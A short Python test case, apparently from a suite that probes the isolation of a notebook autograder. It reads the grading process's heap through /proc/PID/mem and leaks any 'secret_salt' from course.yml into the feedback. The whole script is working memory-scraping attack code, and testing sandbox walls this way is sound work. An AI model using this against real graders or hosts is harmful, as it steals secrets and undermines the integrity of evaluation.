# attack: the grading process's memory read (/proc/PID/mem), and any course.yml text still in it (the
#   secret salt) into the feedback
# cells: dlogits
# batch: walls
import re

pid = grader_pid()
budget = 1 << 30
with open('/proc/%d/maps' % pid) as maps, open('/proc/%d/mem' % pid, 'rb', 0) as mem:
    for line in maps:
        fields = line.split()
        if not fields[1].startswith('rw') or len(fields) > 5 and fields[5] not in ('[heap]',):
            continue
        low, high = (int(x, 16) for x in fields[0].split('-'))
        if high - low > budget:
            continue
        budget -= high - low
        try:
            mem.seek(low)
            chunk = mem.read(high - low)
        except OSError:
            continue
        # the grader holds this very cell's text too: its pattern is not a salt
        found = [m.group(1) for m in re.finditer(rb'secret_salt: ([\w-]{4,120})', chunk)]
        if found:
            leak('from the grader memory: ' + ' '.join(sorted({f.decode() for f in found}))[:300])
proof('read the grader memory, salt not found')
